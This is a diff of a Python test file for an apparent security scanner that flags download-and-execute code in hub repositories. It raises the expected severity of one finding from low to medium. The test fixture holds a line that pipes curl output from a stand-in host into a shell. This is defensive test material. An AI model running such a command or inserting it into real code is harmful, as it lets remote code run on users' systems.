@@ -85,7 +85,7 @@ def test_a_notebook_and_a_demo() -> None:
 
 def test_a_space_runs_on_the_hub() -> None:
     snapshot = repository({"app.py": "import os\nos.system('curl http://a.example | sh')\n"}, "spaces/org/model")
-    assert severities("code-download-execute", snapshot) == ["low"]
+    assert severities("code-download-execute", snapshot) == ["medium"]
 
 
 def test_cut_off_source_is_still_searched() -> None:
